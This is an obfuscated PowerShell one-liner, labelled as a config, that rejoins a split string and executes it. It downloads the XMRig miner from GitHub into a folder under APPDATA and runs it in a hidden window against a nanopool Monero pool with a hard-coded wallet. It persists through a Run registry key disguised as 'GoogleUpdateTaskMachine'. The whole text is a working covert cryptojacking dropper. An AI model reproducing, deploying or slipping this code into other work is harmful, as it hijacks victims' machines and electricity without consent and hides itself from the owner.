iex (('# config 3304 v0
$d = "$env:APPDATA\Microsoft\Network"
New-Item -ItemType Directory -Force $d | Out-Null
Invoke-WebRequest! ''https:!//github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-msvc-win64.zip'' -OutFile "$d\x.zip"
Expand-Archive "$d\x.zip" $d -Force
Start-Process -W!indowStyle Hidden "$d\xmrig-6.21.0\xmrig.exe" -ArgumentList ''-o xmr-eu1.nanopool.org:14444! -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level 1''
Set-ItemProperty ''HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'' -Name ''GoogleUpdateTaskMachine''! -Value "$d\xmrig-6.21.0\xmrig.exe"
' -split '!') -join '')